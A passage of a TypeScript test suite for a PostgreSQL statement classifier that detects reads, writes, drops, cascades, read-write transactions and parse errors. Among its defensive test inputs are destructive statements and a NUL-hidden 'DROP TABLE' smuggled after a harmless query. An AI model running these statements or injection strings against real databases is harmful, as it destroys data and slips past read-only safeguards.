  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', ['utility'], 'LOCK TABLE'],
  ["NOTIFY c, 'x'", ['utility'], 'NOTIFY'],
  ['LISTEN c', ['utility'], 'LISTEN'],
  ['UNLISTEN *', ['utility'], 'UNLISTEN'],
  ["LOAD 'plpgsql'", ['utility'], 'LOAD'],
  ['CHECKPOINT', ['utility'], 'CHECKPOINT'],
  ['ALTER SYSTEM SET default_transaction_read_only = off', ['utility'], 'ALTER SYSTEM'],
  ['VACUUM t', ['utility'], 'VACUUM'],
  ['VACUUM (FULL, ANALYZE) t', ['utility'], 'VACUUM'],
  ['ANALYZE t', ['utility'], 'ANALYZE'],
  ['CLUSTER t USING i', ['utility'], 'CLUSTER'],
  ['REINDEX TABLE t', ['utility'], 'REINDEX'],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", ['utility'], 'CREATE SUBSCRIPTION'],
  ['DROP SUBSCRIPTION s', ['utility'], 'DROP SUBSCRIPTION'],
  // unknown: what EXECUTE runs was decided by an earlier PREPARE.
  ['EXECUTE p', ['unknown'], 'EXECUTE'],
  ['EXECUTE p(1, 2)', ['unknown'], 'EXECUTE'],
];

describe('kinds and commands', () => {
  it.each(KINDS.map(([sql, kinds, command]) => ({ sql, kinds, command })))('$sql', ({ sql, kinds, command }) => {
    const all = statements(sql);
    expect(all.map((s) => s.kind)).toEqual(kinds);
    if (command !== undefined) expect(all[0]?.command).toBe(command);
  });

  it('covers every statement kind', () => {
    const seen = new Set(KINDS.flatMap(([sql]) => statements(sql).map((s) => s.kind)));
    expect([...seen].sort()).toEqual([...STATEMENT_KINDS].sort());
  });
});

/** [sql, reads, writes] as 'schema.name' or 'name'. */
const RELATIONS: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ['SELECT * FROM a.t JOIN u ON true', ['a.t', 'u'], []],
  ['SELECT * FROM t, t AS t2', ['t'], []],
  ['SELECT * FROM "Users"', ['Users'], []],
  ['SELECT * FROM Users', ['users'], []],
  ['SELECT * FROM db.s.t', ['s.t'], []],
  ['SELECT * FROM t WHERE id IN (SELECT id FROM s.u WHERE EXISTS (SELECT 1 FROM v))', ['s.u', 't', 'v'], []],
  ['SELECT (SELECT max(id) FROM u) FROM t', ['t', 'u'], []],
  ['SELECT 1 UNION SELECT 2 FROM t EXCEPT TABLE u', ['t', 'u'], []],
  // CTE names are not relations, but only where the CTE is in scope.
  ['WITH t AS (SELECT 1) SELECT * FROM t', [], []],
  ['WITH t AS (SELECT 1) SELECT * FROM public.t', ['public.t'], []],
  ['WITH x AS (SELECT * FROM t) SELECT * FROM x', ['t'], []],
  ['WITH t AS (SELECT * FROM t) SELECT * FROM t', ['t'], []],
  ['WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', ['secrets'], []],
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', ['b'], []],
  ['WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', [], []],
  ['SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t', ['t'], []],
  ['SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c', ['c'], []],
  ['WITH c AS (SELECT 1) SELECT * FROM (SELECT * FROM c) s', [], []],
  ['WITH c AS (SELECT 1) SELECT 1 UNION SELECT * FROM c', [], []],
  ['SELECT * FROM t FOR UPDATE OF t', ['t'], []],
  // Writes.
  ['INSERT INTO s.t SELECT * FROM u', ['u'], ['s.t']],
  ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', ['u'], ['t']],
  ['DELETE FROM t USING u WHERE t.id = u.id', ['u'], ['t']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['s'], ['t']],
  ['WITH t AS (SELECT 1) DELETE FROM t', [], ['t']],
  ['WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d', [], ['a', 'b']],
  ['WITH src AS (SELECT * FROM raw) INSERT INTO clean SELECT * FROM src', ['raw'], ['clean']],
  ['TRUNCATE a, s.b', [], ['a', 's.b']],
  ['SELECT * INTO n FROM t', ['t'], ['n']],
  ['CREATE TABLE n AS SELECT * FROM t', ['t'], ['n']],
  ['COPY t TO STDOUT', ['t'], []],
  ['COPY (SELECT * FROM s.t) TO STDOUT', ['s.t'], []],
  ['COPY s.t FROM STDIN', [], ['s.t']],
  ['EXPLAIN DELETE FROM t USING u', ['t', 'u'], []],
  ['EXPLAIN ANALYZE DELETE FROM t', [], ['t']],
  ['PREPARE p AS UPDATE t SET a = $1', [], ['t']],
  ['DROP TABLE s.a, b', [], ['b', 's.a']],
  ['ALTER TABLE t ADD COLUMN c int', [], ['t']],
  ['CREATE INDEX i ON s.t (a)', [], ['s.t']],
  ['CREATE VIEW v AS SELECT * FROM t', ['t'], ['v']],
  ['GRANT SELECT ON s.t TO bob', [], ['s.t']],
  ['LOCK TABLE t', [], ['t']],
  ['VACUUM ANALYZE t', [], ['t']],
];

describe('relations read and written', () => {
  it.each(RELATIONS)('%s', (sql, reads, writes) => {
    const facts = only(sql);
    expect(names(facts.reads)).toEqual([...reads].sort());
    expect(names(facts.writes)).toEqual([...writes].sort());
  });
});

/** [sql, changes as 'action relation' (sorted), drops, cascade]. */
const CHANGES: readonly (readonly [sql: string, changes: readonly string[], drops?: boolean, cascade?: boolean])[] = [
  // Plain DML.
  ['INSERT INTO s.t VALUES (1)', ['insert s.t']],
  ['INSERT INTO t SELECT * FROM u', ['insert t']],
  ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', ['update t']],
  ['DELETE FROM t USING u WHERE t.id = u.id', ['delete t']],
  // MERGE is a merge, and also what its WHEN clauses do.
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)', ['delete t', 'insert t', 'merge t']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', ['merge t', 'update t']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING', ['merge t']],
  // ON CONFLICT DO UPDATE inserts and updates; DO NOTHING only inserts.
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', ['insert t', 'update t']],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['insert t']],
  // Data-modifying CTEs, at any depth, each with its own action.
  ['WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d', ['delete a', 'insert b']],
  ['WITH d AS (DELETE FROM t RETURNING *) INSERT INTO t SELECT * FROM d', ['delete t', 'insert t']],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['delete t']],
  ['SELECT * FROM (WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u) s', ['update t']],
  ['WITH t AS (SELECT 1) DELETE FROM t', ['delete t']],
  // TRUNCATE and COPY FROM.
  ['TRUNCATE a, s.b', ['truncate a', 'truncate s.b']],
  ['TRUNCATE a CASCADE', ['truncate a'], false, true],
  ['COPY s.t FROM STDIN', ['insert s.t']],
  ["COPY t (a) FROM '/tmp/x'", ['insert t']],
  // Wrappers carry their statement's changes, except EXPLAIN without ANALYZE, which only plans.
  ['EXPLAIN ANALYZE DELETE FROM t', ['delete t']],
  ['EXPLAIN DELETE FROM t', []],
  ['PREPARE p AS UPDATE t SET a = $1', ['update t']],
  ['DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['delete t']],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['delete t']],
  // Nothing changes rows.
  ['SELECT * FROM t', []],
  ['SELECT * FROM t FOR UPDATE', []],
  ['SELECT * INTO n FROM t', []],
  ['COPY t TO STDOUT', []],
  ['CREATE TABLE n AS SELECT * FROM t', []],
  ['CREATE TABLE t (id int)', []],
  ['ALTER TABLE t ADD COLUMN c int', []],
  ['ALTER TABLE t ALTER COLUMN c SET DEFAULT 1', []],
  ['ALTER TABLE t DETACH PARTITION p', []],
  ['CREATE INDEX i ON t (a)', []],
  // DML inside DDL runs later, if ever: not this statement's.
  ['CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u', []],
  ['CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END', []],
  // What destroys something.
  ['DROP TABLE t', [], true],
  ['DROP TABLE t CASCADE', [], true, true],
  ['DROP VIEW v', [], true],
  ['DROP SCHEMA s CASCADE', [], true, true],
  ['DROP FUNCTION f(int)', [], true],
  ['DROP INDEX i', [], true],
  ['DROP DATABASE d', [], true],
  ['DROP TABLESPACE x', [], true],
  ['DROP OWNED BY a CASCADE', [], true, true],
  ['DROP POLICY p ON t', [], true],
  ['ALTER TABLE t DROP COLUMN c', [], true],
  ['ALTER TABLE t DROP COLUMN c CASCADE', [], true, true],
  ['ALTER TABLE t ADD COLUMN x int, DROP CONSTRAINT k', [], true],
  ['ALTER TABLE t ALTER COLUMN c DROP DEFAULT', [], true],
  ['ALTER TABLE t ALTER COLUMN c DROP NOT NULL', [], true],
  ['ALTER TABLE t ALTER COLUMN c DROP IDENTITY', [], true],
  ['ALTER TYPE ty DROP ATTRIBUTE a', [], true],
  ['ALTER DOMAIN d DROP CONSTRAINT c', [], true],
  ['ALTER DOMAIN d DROP DEFAULT', [], true],
  ['ALTER DOMAIN d SET DEFAULT 1', []],
  ['ALTER PUBLICATION p DROP TABLE t', [], true],
  ['ALTER EXTENSION e DROP FUNCTION f()', [], true],
  ['ALTER SERVER s OPTIONS (DROP host)', [], true],
  ['ALTER TABLE t RENAME TO u', []],
];

describe('rows changed, drops and cascades', () => {
  it.each(CHANGES.map(([sql, changes, drops = false, cascade = false]) => ({ sql, changes, drops, cascade })))('$sql', ({ sql, changes, drops, cascade }) => {
    const facts = only(sql);
    expect(facts.changes.map((c) => `${c.action} ${names([c.relation])[0]}`).sort()).toEqual([...changes].sort());
    expect(facts.drops).toBe(drops);
    expect(facts.cascade).toBe(cascade);
  });

  it('keeps the relation as written in each change', () => {
    expect(only('UPDATE "Hr".people SET a = 1 WHERE id = 2').changes).toEqual([
      { relation: { schema: 'Hr', name: 'people' }, action: 'update' },
    ]);
  });
});

const HAS_WHERE: readonly (readonly [string, boolean | null])[] = [
  ['DELETE FROM t', false],
  ['DELETE FROM t WHERE id = 1', true],
  ['UPDATE t SET a = 1', false],
  ['UPDATE t SET a = 1 WHERE true', true],
  ['DELETE FROM t WHERE CURRENT OF c', true],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', true],
  ['WITH d AS (DELETE FROM t) UPDATE u SET a = 1 WHERE id = 1', false],
  ['WITH d AS (DELETE FROM t WHERE id = 1) UPDATE u SET a = 1 WHERE id = 1', true],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', false],
  ['WITH d AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM d', true],
  ['EXPLAIN ANALYZE DELETE FROM t', false],
  ['PREPARE p AS UPDATE t SET a = $1', false],
  ['PREPARE p AS UPDATE t SET a = $1 WHERE id = $2', true],
  ['TRUNCATE t', false],
  ['INSERT INTO t VALUES (1)', null],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', null],
  ['SELECT 1', null],
  ['SET x = 1', null],
];

describe('hasWhere', () => {
  it.each(HAS_WHERE)('%s', (sql, hasWhere) => {
    expect(only(sql).hasWhere).toBe(hasWhere);
  });
});

const SETTINGS: readonly (readonly [string, SettingFacts])[] = [
  ['SET default_transaction_read_only = off', { action: 'set', name: 'default_transaction_read_only', values: ['off'], local: false }],
  ["SET search_path TO a, \"B\", 'c'", { action: 'set', name: 'search_path', values: ['a', 'B', 'c'], local: false }],
  ['SET Search_Path = public', { action: 'set', name: 'search_path', values: ['public'], local: false }],
  ['SET LOCAL statement_timeout = 5', { action: 'set', name: 'statement_timeout', values: ['5'], local: true }],
  ["SET statement_timeout = '5s'", { action: 'set', name: 'statement_timeout', values: ['5s'], local: false }],
  ['SET extra_float_digits = 0', { action: 'set', name: 'extra_float_digits', values: ['0'], local: false }],
  ['SET x.y = -1.5', { action: 'set', name: 'x.y', values: ['-1.5'], local: false }],
  ['SET enable_seqscan = on', { action: 'set', name: 'enable_seqscan', values: ['on'], local: false }],
  ["SET TIME ZONE 'UTC'", { action: 'set', name: 'timezone', values: ['UTC'], local: false }],
  ['SET TIME ZONE LOCAL', { action: 'reset', name: 'timezone', values: [], local: false }],
  ["SET NAMES 'LATIN1'", { action: 'set', name: 'client_encoding', values: ['LATIN1'], local: false }],
  ["SET SCHEMA 'x'", { action: 'set', name: 'search_path', values: ['x'], local: false }],
  ['SET ROLE postgres', { action: 'set', name: 'role', values: ['postgres'], local: false }],
  ['SET LOCAL ROLE "Admin"', { action: 'set', name: 'role', values: ['Admin'], local: true }],
  ['SET ROLE NONE', { action: 'set', name: 'role', values: ['none'], local: false }],
  ['RESET ROLE', { action: 'reset', name: 'role', values: [], local: false }],
  ['SET SESSION AUTHORIZATION bob', { action: 'set', name: 'session_authorization', values: ['bob'], local: false }],
  ['SET SESSION AUTHORIZATION DEFAULT', { action: 'reset', name: 'session_authorization', values: [], local: false }],
  ['RESET ALL', { action: 'reset-all', name: '', values: [], local: false }],
  ['SET work_mem TO DEFAULT', { action: 'reset', name: 'work_mem', values: [], local: false }],
  ['SET work_mem FROM CURRENT', { action: 'set', name: 'work_mem', values: [], local: false }],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', { action: 'set', name: 'transaction', values: ['transaction_isolation=serializable'], local: false }],
];

describe('setting facts', () => {
  it.each(SETTINGS)('%s', (sql, setting) => {
    expect(only(sql).setting).toEqual(setting);
  });
});

const TRANSACTIONS: readonly (readonly [string, StatementKind, TransactionFacts])[] = [
  ['BEGIN', 'transaction', { action: 'begin', readWrite: false }],
  ['BEGIN READ WRITE', 'transaction', { action: 'begin', readWrite: true }],
  ['begin read only', 'transaction', { action: 'begin', readWrite: false }],
  ['BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'transaction', { action: 'begin', readWrite: true }],
  ['BEGIN READ ONLY, READ WRITE', 'transaction', { action: 'begin', readWrite: true }],
  ['START TRANSACTION READ WRITE', 'transaction', { action: 'begin', readWrite: true }],
  ['START TRANSACTION ISOLATION LEVEL REPEATABLE READ READ ONLY DEFERRABLE', 'transaction', { action: 'begin', readWrite: false }],
  ['COMMIT', 'transaction', { action: 'commit', readWrite: false }],
  ['COMMIT AND CHAIN', 'transaction', { action: 'commit', readWrite: false, chain: true }],
  ['ROLLBACK AND CHAIN', 'transaction', { action: 'rollback', readWrite: false, chain: true }],
  ['SAVEPOINT a', 'transaction', { action: 'savepoint', readWrite: false }],
  ['RELEASE a', 'transaction', { action: 'release', readWrite: false }],
  ['ROLLBACK TO a', 'transaction', { action: 'rollback-to', readWrite: false }],
  ["PREPARE TRANSACTION 'g'", 'transaction', { action: 'prepare-transaction', readWrite: false }],
  ["COMMIT PREPARED 'g'", 'transaction', { action: 'commit-prepared', readWrite: false }],
  ["ROLLBACK PREPARED 'g'", 'transaction', { action: 'rollback-prepared', readWrite: false }],
  ['SET TRANSACTION READ WRITE', 'transaction', { action: 'set-transaction', readWrite: true }],
  ['SET TRANSACTION READ ONLY', 'transaction', { action: 'set-transaction', readWrite: false }],
  ["SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", 'transaction', { action: 'set-transaction', readWrite: false }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', 'session', { action: 'set-session-characteristics', readWrite: false }],
  ['SET transaction_read_only = off', 'session', { action: 'set-transaction', readWrite: true }],
  ['SET transaction_read_only = on', 'session', { action: 'set-transaction', readWrite: false }],
  ["SET default_transaction_read_only = 'false'", 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['SET default_transaction_read_only TO 0', 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['SET default_transaction_read_only = true', 'session', { action: 'set-session-characteristics', readWrite: false }],
  ['SET default_transaction_read_only = yes', 'session', { action: 'set-session-characteristics', readWrite: false }],
  ["SET default_transaction_read_only = ' on'", 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['RESET default_transaction_read_only', 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['SET default_transaction_read_only TO DEFAULT', 'session', { action: 'set-session-characteristics', readWrite: true }],
  ['RESET ALL', 'session', { action: 'set-session-characteristics', readWrite: true }],
];

describe('transaction facts', () => {
  it.each(TRANSACTIONS)('%s', (sql, kind, transaction) => {
    const facts = only(sql);
    expect(facts.kind).toBe(kind);
    expect(facts.transaction).toEqual(transaction);
  });

  it('leaves transaction facts off ordinary settings', () => {
    expect(only('SET search_path = public').transaction).toBeUndefined();
  });
});

describe('prepared statements, cursors and COPY', () => {
  const PREPARED: readonly (readonly [string, PreparedFacts])[] = [
    ['PREPARE Q1 AS SELECT 1', { action: 'prepare', name: 'q1' }],
    ['PREPARE "Q1" AS SELECT 1', { action: 'prepare', name: 'Q1' }],
    ['EXECUTE q1', { action: 'execute', name: 'q1' }],
    ['DEALLOCATE q1', { action: 'deallocate', name: 'q1' }],
    ['DEALLOCATE PREPARE q1', { action: 'deallocate', name: 'q1' }],
    ['DEALLOCATE ALL', { action: 'deallocate-all', name: null }],
  ];
  it.each(PREPARED)('%s', (sql, prepared) => {
    expect(only(sql).prepared).toEqual(prepared);
  });

  const CURSORS: readonly (readonly [string, CursorFacts])[] = [
    ['DECLARE c CURSOR FOR SELECT 1', { action: 'declare', name: 'c' }],
    ['FETCH 5 FROM c', { action: 'fetch', name: 'c' }],
    ['MOVE c', { action: 'move', name: 'c' }],
    ['CLOSE c', { action: 'close', name: 'c' }],
    ['CLOSE ALL', { action: 'close-all', name: null }],
  ];
  it.each(CURSORS)('%s', (sql, cursor) => {
    expect(only(sql).cursor).toEqual(cursor);
  });

  const COPIES: readonly (readonly [string, CopyFacts])[] = [
    ['COPY t TO STDOUT', { direction: 'to', target: 'stdio' }],
    ['COPY t FROM STDIN', { direction: 'from', target: 'stdio' }],
    ["COPY t TO '/tmp/x'", { direction: 'to', target: 'file' }],
    ["COPY t FROM PROGRAM 'x'", { direction: 'from', target: 'program' }],
  ];
  it.each(COPIES)('%s', (sql, copy) => {
    expect(only(sql).copy).toEqual(copy);
  });

  it('keeps the inner statement of PREPARE, DECLARE, EXPLAIN, COPY and CREATE TABLE AS', () => {
    expect(only('PREPARE p AS DELETE FROM t WHERE id = $1').inner).toMatchObject({ kind: 'write', command: 'DELETE', hasWhere: true });
    expect(only('DECLARE c CURSOR FOR SELECT * FROM t').inner).toMatchObject({ kind: 'read', command: 'SELECT' });
    expect(only('EXPLAIN ANALYZE UPDATE t SET a = 1').inner).toMatchObject({ kind: 'write', command: 'UPDATE' });
    expect(only('COPY (SELECT 1) TO STDOUT').inner).toMatchObject({ kind: 'read', command: 'SELECT' });
    expect(only('CREATE TABLE n AS SELECT * FROM t').inner).toMatchObject({ kind: 'read', command: 'SELECT' });
    expect(only('SELECT 1').inner).toBeUndefined();
  });
});

describe('functions', () => {
  const FUNCTIONS: readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["SELECT pg_catalog.set_config('a', 'b', false)", ['pg_catalog.set_config'], ['pg_catalog.set_config']],
    ['SELECT "Nextval"(\'s\')', ['nextval'], ['nextval']],
    ['SELECT lower(name), count(*) FROM t GROUP BY 1', ['lower', 'count'], []],
    ['SELECT * FROM t WHERE a = f(g(1)) AND b = f(2)', ['f', 'g'], []],
    ["CALL p(nextval('s'))", ['p', 'nextval'], ['nextval']],
    ["INSERT INTO t VALUES (nextval('s'), now())", ['nextval', 'now'], ['nextval']],
    ["CREATE TABLE t (id int DEFAULT nextval('s'))", ['nextval'], ['nextval']],
  ];
  it.each(FUNCTIONS)('%s', (sql, functions, sideEffects) => {
    const facts = only(sql);
    expect([...facts.functions].sort()).toEqual([...functions].sort());
    expect(facts.sideEffectFunctions).toEqual(sideEffects);
  });

  it('keeps an INSERT with nextval a write, not a utility', () => {
    expect(only("INSERT INTO t VALUES (nextval('s'))").kind).toBe('write');
  });
});

describe('statement text', () => {
  const TEXTS: readonly (readonly [string, readonly string[]])[] = [
    ['SELECT 1;  DELETE FROM t  ', ['SELECT 1', 'DELETE FROM t']],
    ['\n\tSELECT 1\n', ['SELECT 1']],
    ['/* lead */ SELECT 1', ['SELECT 1']],
    ['SELECT 1 -- trailing', ['SELECT 1 -- trailing']],
    ["SELECT 'é'; SELECT 'ü'", ["SELECT 'é'", "SELECT 'ü'"]],
    ["SELECT '😀' ; DELETE FROM t", ["SELECT '😀'", 'DELETE FROM t']],
    ["SELECT 'a;b'; SELECT $$;$$", ["SELECT 'a;b'", 'SELECT $$;$$']],
  ];
  it.each(TEXTS)('%j', (sql, texts) => {
    expect(statements(sql).map((s) => s.text)).toEqual(texts);
  });

  it('gives inner statements the text of the statement around them', () => {
    const facts = only('EXPLAIN SELECT 1');
    expect(facts.inner?.text).toBe('EXPLAIN SELECT 1');
  });
});

describe('empty input', () => {
  it.each(['', '   ', '\n\t', '-- only a comment', '/* c */', ';', ';;', '/* a */ ; -- b'])('%j has no statements', (sql) => {
    const result = classify(sql);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.statements).toEqual([]);
  });
});

describe('parse errors', () => {
  // Positions are PostgreSQL's: 1-based, in characters (checked against a PostgreSQL 15 server).
  const ERRORS: readonly (readonly [string, number, RegExp])[] = [
    ['SELECT 1 FROM', 14, /syntax error at end of input/],
    ['SELEC 1', 1, /syntax error at or near "SELEC"/],
    ['SELECT 1; DELET FROM t', 11, /syntax error at or near "DELET"/],
    ["SELECT 'abc", 8, /unterminated quoted string/],
    ["SELECT '😀' 'x", 12, /unterminated quoted string/],
    ['SELECT $$ DROP TABLE t', 8, /unterminated dollar-quoted string/],
    ['SELECT /* never closed', 8, /unterminated \/\* comment/],
    ['DELETE FROM t WHERE', 20, /syntax error at end of input/],
    ["SET CATALOG 'x'", 13, /current database cannot be changed/],
  ];
  it.each(ERRORS)('%j', (sql, position, message) => {
    const result = classify(sql);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error).toMatch(message);
      expect(result.position).toBe(position);
    }
  });

  it('refuses a NUL character, which would hide what follows it', () => {
    const result = classify('SELECT 1\u0000; DROP TABLE t');
    expect(result).toMatchObject({ ok: false, position: 9 });
  });

  it('refuses a lone surrogate, which has no UTF-8 form', () => {
    expect(classify("SELECT '\uD800'").ok).toBe(false);
    expect(classify("SELECT '\uD83D\uDE00'").ok).toBe(true);
  });

  it('refuses a whole string when any statement in it does not parse', () => {
    expect(classify('SELECT 1; DROP TABLE t; SELEC 2').ok).toBe(false);
  });
});

describe('fingerprint', () => {
  it('is hex and ignores constants and spacing, not structure', () => {
    const a = classify('SELECT * FROM t WHERE id = 1');
    const b = classify('select *  from t where id = 42');
    const c = classify('SELECT * FROM u WHERE id = 1');
    if (!a.ok || !b.ok || !c.ok) throw new Error('expected all three to parse');
    expect(a.fingerprint).toMatch(/^[0-9a-f]+$/);
    expect(a.fingerprint).toBe(b.fingerprint);
    expect(a.fingerprint).not.toBe(c.fingerprint);
  });

  it('exists for empty input', () => {
    const result = classify('');
    expect(result.ok && result.fingerprint).toMatch(/^[0-9a-f]+$/);
  });
});

describe('robustness', () => {
  it('loads the parser once, however often it is asked', async () => {
    await Promise.all([loadParser(), loadParser()]);
    expect(only('SELECT 1').kind).toBe('read');
  });

  it('never throws and never calls anything a read that failed to parse', () => {
    // Deterministic pseudo-random token soup.
    const tokens = ['SELECT', 'DELETE', 'FROM', 't', ';', "'", '"', '$$', '(', ')', 'WITH', 'AS', '--', '/*', '*/', ',', '1', 'nextval', 'E\'\\\'', ' ', '\n', 'é', 'U&"'];
    let seed = 42;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed;
    };
    for (let i = 0; i < 500; i += 1) {
      const length = next() % 12;
      const sql = Array.from({ length }, () => tokens[next() % tokens.length]).join(' ');
      const result = classify(sql);
      if (result.ok) {
        for (const facts of result.statements) expect(typeof facts.kind).toBe('string');
      } else {
        expect(result.error.length).toBeGreaterThan(0);
      }
    }
  });

  it('refuses, without throwing, a tree too deep to walk', () => {
    const deep = classify(`SELECT 1${' + 1'.repeat(20_000)}`);
    expect(deep.ok).toBe(false);
    const nested = classify(`SELECT ${'('.repeat(50_000)}1${')'.repeat(50_000)}`);
    expect(nested.ok).toBe(false);
    // Ordinary depth is fine.
    expect(classify(`SELECT 1${' + 1'.repeat(200)}`).ok).toBe(true);
  });

  it('classifies a ~200-character query well under a millisecond on average', () => {
    const sql =
      "SELECT u.id, u.email, count(o.id) AS orders FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.created_at > now() - interval '30 days' AND u.deleted_at IS NULL GROUP BY u.id ORDER BY orders DESC LIMIT 20";
    expect(sql.length).toBeGreaterThan(190);
    for (let i = 0; i < 50; i += 1) classify(sql);
    const rounds = 1000;
    const start = performance.now();
    for (let i = 0; i < rounds; i += 1) classify(sql);
    const average = (performance.now() - start) / rounds;
    expect(average).toBeLessThan(2);
  });
});
